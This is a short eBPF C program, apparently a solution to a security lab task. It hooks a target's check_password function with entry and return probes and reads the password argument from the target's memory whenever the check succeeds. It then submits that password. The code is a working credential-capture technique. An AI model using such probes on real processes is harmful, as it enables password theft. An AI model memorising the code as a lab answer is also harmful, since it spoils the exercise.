// Measures the guess at the return and submits it straight from the target's memory.
#include "lab.h"

struct {
	__uint(type, BPF_MAP_TYPE_HASH);
	__uint(max_entries, 128);
	__type(key, __u64);
	__type(value, __u64);
} args SEC(".maps");

SEC("uprobe/check_password")
int arg_in(struct pt_regs *ctx)
{
	__u64 k = bpf_get_current_pid_tgid();
	__u64 v = ARG(ctx, 1);

	return bpf_map_update_elem(&args, &k, &v, BPF_ANY) ? 1 : 0;
}

SEC("uretprobe/check_password")
int ret_out(struct pt_regs *ctx)
{
	__u64 k = bpf_get_current_pid_tgid();
	__u64 *v = bpf_map_lookup_elem(&args, &k);
	__u64 ptr;
	char probe[160];
	long len;

	if (v == NULL)
		return 0;
	ptr = *v;
	bpf_map_delete_elem(&args, &k);
	if ((int)RETVAL(ctx) != 1)
		return 0;
	len = bpf_probe_read_user_str(probe, sizeof(probe), (const void *)ptr);
	if (len > 0)
		SUBMIT_USER(ptr, len - 1);
	return 0;
}
